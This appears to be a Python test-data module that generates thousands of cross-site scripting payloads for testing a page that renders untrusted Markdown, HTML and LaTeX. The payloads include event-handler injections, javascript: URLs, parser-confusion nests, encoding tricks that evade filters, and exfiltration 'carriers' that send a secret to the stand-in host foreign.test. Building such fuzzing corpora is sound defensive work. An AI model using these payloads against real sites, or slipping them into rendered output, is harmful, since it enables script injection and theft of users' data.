"""Attacks on a page that shows foreign text, by a grammar of our own: scripts that want to run, carriers that send.

A payload is put together of a tag, a handler, what it does, how it is spelled and where in Markdown it stands. "§" is
where the inner part of a form goes. Everything follows from a seed, so a payload can be named by its number.
"""

import base64
import html
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

# ruff: noqa: E501, SIM905

MARK = "window.__pwn=1"
FOREIGN = "http://foreign.test"

_ACTIONS = (
    MARK, "alert(1)", "top['__p'+'wn']=1", "confirm`1`", "(_=>window.__pwn=1)()", "prompt(1)", "Function('window.__pwn=1')()",
    "setTimeout('window.__pwn=1')", "[1].map(()=>window.__pwn=1)", "with(window)__pwn=1", "new(class{constructor(){window.__pwn=1}})",
    "fetch('//foreign.test/'+document.title)", "new/**/Image().src='//foreign.test/i'", "open('http://foreign.test/')",
    "import('data:text/javascript,window.__pwn=1')", "document.body.innerHTML='<b/onclick=1>'", "location.hash='__pwn'",
)  # fmt: skip
_TAGS = (
    "a abbr area article audio b base body button canvas details dialog div embed fieldset font form frameset h1 iframe img "
    "input isindex keygen label link map marquee math meta meter object optgroup p portal progress select slot source span "
    "style summary svg table template textarea title track video wbr xmp animate set foreignObject image use mglyph mtext "
    "custom-element x:script"
).split()
_EVENTS = (
    "onabort onafterprint onanimationcancel onanimationend onanimationstart onauxclick onbeforeinput onbeforematch "
    "onbeforetoggle onbegin onblur oncanplay onchange onclick oncontentvisibilityautostatechange oncontextmenu oncopy "
    "oncuechange oncut ondblclick ondrag ondragstart ondrop ondurationchange onend onerror onfocus onfocusin onfinish "
    "onformdata ongotpointercapture onhashchange oninput oninvalid onkeydown onload onloadedmetadata onloadstart "
    "onmessage onmousedown onmouseenter onmouseover onpageshow onpaste onpointerdown onpointerenter onpopstate onrepeat "
    "onreset onresize onscroll onscrollend onsearch onselect onselectionchange onshow onslotchange onstart onsubmit "
    "onsuspend ontimeupdate ontoggle ontouchstart ontransitionend ontransitionrun onunload onwheel"
).split()
# Where the rules of parsing change, so that what a filter saw is not what a browser sees.
_NESTS = (
    "<svg>", "<math>", "<mtext>", "<mglyph>", "<style>", "<title>", "<desc>", "<foreignObject>", "<noscript>", "<template>",
    "<textarea>", "<select><option>", "<table><tr>", "<form>", "<xmp>", "<noembed>", "<p>", "<!--", "<![CDATA[", "<?x ", "<!x ",
    "</p>", "<a href='", '<b title="', "--!>", "]]>", "<plaintext>", "<annotation-xml encoding=text/html>", "<colgroup>", "<br>",
)  # fmt: skip
# An attribute that takes an address.
_SINKS = (
    "<a href=§>x</a>", '<a href="§">x</a>', "<area href='§'>", "<form action=§><button>x</form>", "<button formaction=§ form=f>x</button>",
    "<input type=image src=x formaction=§>", "<iframe src=§></iframe>", '<object data="§"></object>', "<embed src=§>",
    "<svg><a xlink:href='§'><text>x</text></a></svg>", "<svg><animate attributeName=href values=§ /></svg>", "<svg><use href='§' /></svg>",
    "<math><mi href='§'>x</mi></math>", "<meta http-equiv=refresh content='0;url=§'>", "<link rel=stylesheet href='§'>",
    "<base href='§'>", "<script src=§></script>", "<img src='§'>", "<img srcset='§ 1x'>", "<video poster='§'></video>",
    "<body background='§'>", "<portal src='§'></portal>", "<div style='background:url(\"§\")'>x</div>", "<iframe srcdoc='<a href=§>'></iframe>",
)  # fmt: skip
_LINKS = (
    "[x](§)", "[x](<§>)", '[x](§ "t")', "![x](§)", "<§>", "[x][r]\n\n[r]: §", "![x][r]\n\n[r]: <§>", "[![x](§)](§)", "| a |\n|---|\n| [x](§) |",
    "> [x](§)", "- [ ] [x](§)", "# [x](§)", "**[x](§)**", "`[x](§)`", "[x]\n(§)", "[x](\n§\n)", "[^1]\n\n[^1]: §", "[x]( §)", "§", "[§](§)",
)  # fmt: skip
_SCHEMES = (
    "javascript:§", "vbscript:§", "data:text/html,<script>§</script>", "data:image/svg+xml,<svg onload=§>", "javascript://%0a§",
    "//foreign.test/§", "\\\\foreign.test\\§", "blob:http://foreign.test/§", "filesystem:§", "view-source:javascript:§", "feed:javascript:§",
    "about:blank#§", "file:///etc/passwd?§", "ws://foreign.test/§", "intent://x#Intent;S.u=§;end", "jar:http://foreign.test!/§",
)  # fmt: skip
_LATEX = (
    "\\href{javascript:§}{x}", "\\url{javascript:§}", "\\htmlData{onclick=§}{x}", "\\htmlClass{\" onclick=§ }{x}", "\\htmlStyle{x:§}{y}",
    "\\htmlId{x onclick=§}{y}", "\\style{background:url(javascript:§)}{y}", "\\class{\" onclick=§ }{y}", "\\cssId{\"><img onerror=§>}{y}",
    "\\text{<img src=x onerror=§>}", "\\mbox{<svg onload=§>}", "\\unicode{x3c}script>§", "\\mathchoice{§}{}{}{}", "\\color{red\" onload=\"§}{x}",
    "\\textcolor{\"><script>§</script>}{x}", "\\operatorname{<script>§</script>}", "\\begin{array}{\" onclick=§ }x\\end{array}",
    "\\def\\x{<b onclick=§>}\\x", "\\newcommand{\\x}[1]{\\href{#1}{y}}\\x{javascript:§}", "\\require{html}\\href{§}{x}", "\\includegraphics{§}",
    "\\verb|<img onerror=§>|", "\\tag{<img src=x onerror=§>}", "\\rule{\" onload=§ }{1em}", "\\bbox[border:1px;x:§]{y}", "\\data{x=§}{y}",
    "\\left<script\\right>§", "&lt;script&gt;§&lt;/script&gt;", "\\char\"3Cimg onerror=§>", "x_{<img src=x onerror=§>}", "\\hspace{\" onclick=§}",
    "\\mathchar\"§", "\\input{javascript:§}", "\\special{html:<b onclick=§>}", "\\toggle{<img onerror=§>}{y}\\endtoggle", "\\ce{<script>§</script>}",
)  # fmt: skip
_FRAMES = (
    "§", "```html\n§\n```", "```§\ncode\n```", "~~~ §\ncode\n~~~", "    §", "> §", "- §", "1. §", "# §", "§\n===", "| § |\n|---|\n| § |", "`§`",
    "**§**", "~~§~~", "$§$", "$$§$$", "\\(§\\)", "\\[\n§\n\\]", "$$\n\\text{§}\n$$", "\\begin{align}§\\end{align}", '[x](http://a.test "§")',
    "![§](http://foreign.test/a.png)", "[§](https://a.test/)", "<!-- § -->", "<![CDATA[§]]>", "</textarea>§", "</script>§", "\"'>§", "&lt;§&gt;",
    "\\§", "[r]: http://a.test '§'", "[^§]: x", "x{onclick=§}", "[x](http://a.test){onclick=§}", "::: {onclick=§}\nx\n:::", "{: onclick=§}",
    "{{§}}", "${§}", "<%= § %>", "{%§%}", "[[§]]", "{{constructor.constructor('§')()}}", "<x v-on:click=§>", "<b ng-init=§>", "@{§}", "&{§};",
    "http://a.test/§", "<http://a.test/§>", "mailto:a@b.test?§", "--\ntitle: §\n--", "=cmd|'§'!A1", "\u202e§\u202c", "§\u2028§", "\ufeff§",
)  # fmt: skip
# How an address may be spelled so that a list of bad beginnings misses it.
_SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda url: url,
    lambda url: _mixed(url[:12]) + url[12:],
    lambda url: "".join(f"&#{ord(c)};" for c in url[:8]) + url[8:],
    lambda url: "".join(f"&#x{ord(c):x}" for c in url[:4]) + url[4:],
    lambda url: url.replace("c", "c\t", 1),
    lambda url: url.replace("c", "c&NewLine;", 1),
    lambda url: url.replace(":", "&colon;", 1),
    lambda url: url.replace(":", "&#0000058", 1),
    lambda url: "\x01" + url,
    lambda url: "\u00a0" + url,
    lambda url: url.replace("s", "\\s", 1),
    lambda url: url.replace("s", "\u017f", 1),
    lambda url: url.replace("a", "\u200b" + "a", 1),
    lambda url: url.replace(":", "%3a", 1),
    lambda url: "https:" + url,
)
_ENCODINGS: tuple[Callable[[str], str], ...] = (
    lambda code: code,
    lambda code: "".join(f"&#{ord(c)};" for c in code),
    lambda code: "".join(f"&#x{ord(c):04X};" for c in code[:6]) + code[6:],
    lambda code: code.replace("w", "\\u0077", 1),
    lambda code: code.replace("(", "&lpar;").replace(")", "&rpar;"),
    lambda code: f"javascript:{code}",
    lambda code: f"eval(atob('{base64.b64encode(code.encode()).decode()}'))",
)


def _mixed(text: str) -> str:
    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(text))


def _element(rng: random.Random, tag: str, event: str) -> str:
    """Return an element with a handler, spelled in one of many ways."""
    code = rng.choice(_ENCODINGS)(rng.choice(_ACTIONS))
    space = rng.choice((" ", "/", "\t", "\n", "\f", " / ", "\r\n"))
    name = rng.choice((str, str, str.upper, _mixed))(tag)
    marks = rng.choice(("'", '"', "", "")) if not set(code) & set(" '\"`>") else rng.choice("'\"")
    code = code.replace(marks, "&quot;" if marks == '"' else "&apos;") if marks else code
    more = rng.choice(("", f"{space}autofocus{space}tabindex=1", f"{space}open", f"{space}style=animation:x"))
    end = rng.choice((">", "/>", " >", "//", f"></{tag}>", f">x</{tag}\t>"))
    source = rng.choice((f"{space}src=x", f"{space}href=x", ""))
    return f"<{name}{source}{more}{space}{rng.choice((event, _mixed(event)))}={marks}{code}{marks}{end}"


def _elements(rng: random.Random) -> Iterator[str]:
    """Yield every tag with some handlers, every handler with some tags, and nests in which parsers disagree."""
    for tag in _TAGS:
        for event in ("onerror", "onload", "onfocus", *rng.sample(_EVENTS, 4)):
            yield _element(rng, tag, event)
    for event in _EVENTS:
        for tag in rng.sample(_TAGS, 3):
            yield _element(rng, tag, event)
    for number in range(260):
        inner = _element(rng, rng.choice(("img", "svg", "b", "iframe")), rng.choice(("onerror", "onload", "onclick")))
        yield "".join(rng.sample(_NESTS, 2 + number % 3)) + rng.choice((inner, html.escape(inner)))
    for action in _ACTIONS:
        yield f"<script>{action}</script>"
        yield f"<scr<script>ipt>{action}</scr</script>ipt>"
        yield f"<svg><script>{html.escape(action)}</script></svg>"
        yield f"<SCRIPT\n>{action}</SCRIPT\t>"


def _links(rng: random.Random) -> Iterator[str]:
    """Yield addresses that run, in every place of Markdown and HTML that takes one."""
    for scheme in _SCHEMES:
        for form in (*_LINKS, *_SINKS):
            url = rng.choice(_SPELLINGS)(scheme.replace("§", rng.choice(_ACTIONS[:5])))
            yield form.replace("§", url)
    for spell in _SPELLINGS:
        for form in (_LINKS[0], _LINKS[4], _SINKS[0], _SINKS[1]):
            yield form.replace("§", spell(f"javascript:{MARK}"))


def _disguised(elements: list[str]) -> Iterator[str]:
    """Yield elements in the clothes of other alphabets and encodings."""
    for element in elements[::9]:
        yield html.escape(element)
        yield quote(element)
        yield element.replace("<", "\uff1c").replace(" ", "\u00a0")
        yield element.replace("<", "<\0").upper()
        yield element.replace("on", "o\u200bn", 1)
        yield "".join(f"\\{c}" if c in "<>" else c for c in element)


def scripts() -> list[str]:
    """Return at least 1,500 different texts that would run code in a careless page."""
    rng = random.Random(20_261_121)
    elements = list(dict.fromkeys(_elements(rng)))
    found = [*elements, *_links(rng), *_disguised(elements)]
    for frame in _FRAMES:
        found += [frame.replace("§", element) for element in rng.sample(elements, 9)]
    for form in _LATEX:
        for action in (MARK, *rng.sample(_ACTIONS, 2)):
            inner = form.replace("§", action)
            found.append(rng.choice((f"$${inner}$$", f"\\({inner}\\)", f"$$\n{inner}\n$$")))
    return list(dict.fromkeys(found))


def short_scripts(most: int, *, count: int = 10_000) -> list[str]:
    """Return those scripts that fit where a text is short and on one line: a name, a tag, a file's name.

    Args:
        most: characters.
        count: take about as many, from all kinds.
    """
    found = [text for text in scripts() if len(text) <= most and text.isprintable() and text == text.strip()]
    return found[:: max(1, len(found) // count)]


_CARRIERS = (
    "![a](§)", "![a][r]\n\n[r]: §", "![a](<§>)", "[![a](§)](§)", "<img src='§'>", '<img srcset="§ 2x">', "<picture><source srcset='§'></picture>",
    "<link rel=preconnect href='§'>", "<link rel=dns-prefetch href='§'>", "<link rel=stylesheet href='§'>", "<link rel=prefetch href='§'>",
    "<link rel=modulepreload href='§'>", "<link rel=icon href='§'>", "<link rel=manifest href='§'>", "<style>@import '§'</style>",
    "<div style=\"background:url('§')\">x</div>", "<svg><image href='§' /></svg>", "<svg><use href='§#a' /></svg>", "<svg><feImage href='§' /></svg>",
    "<meta http-equiv=refresh content='0;url=§'>", "<iframe src='§'></iframe>", "<video poster='§' src='§'></video>", "<audio src='§' autoplay></audio>",
    "<object data='§'></object>", "<embed src='§'>", "<script src='§'></script>", "<base href='§'><img src=x>", "<form action='§'><button autofocus>",
    "<a ping='§' href='§'>x</a>", "<body background='§'>", "<input type=image src='§'>", "<track src='§'>", "<iframe srcdoc=\"<img src='§'>\"></iframe>",
    "![a](data:image/svg+xml,<svg><image href='§'/></svg>)", "$$\\includegraphics{§}$$", "$$\\href{§}{x}$$", "```html\n<img src='§'>\n```",
    "| ![a](§) |\n|---|", "> ![a](§)", "@import url(§);", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"§\"]}]}</script>",
    "<math><mi href='§'>x</mi></math>", "<portal src='§'></portal>", "[x](§)", "<§>", "![§](§ \"§\")", "<svg><style>@import'§'</style></svg>",
)  # fmt: skip
_URLS = (
    "http://foreign.test/§", "https://foreign.test/§", "//foreign.test/§", "HTTP://FOREIGN.TEST/§", "http://user:pw@foreign.test/§",
    "http://foreign.test:8080/§", "\\\\foreign.test\\§", "http:foreign.test/§", "http://sub.foreign.test/§", "ht\ttp://foreign.test/§",
    "http&colon;//foreign.test/§", "http://f\u00f6reign.test/§",
)  # fmt: skip


def carriers() -> list[str]:
    """Return at least 300 different texts that would have a careless page call another machine."""
    return [
        form.replace("§", url.replace("§", f"{number}?secret=conversation"))
        for number, form in enumerate(_CARRIERS)
        for url in _URLS
    ]
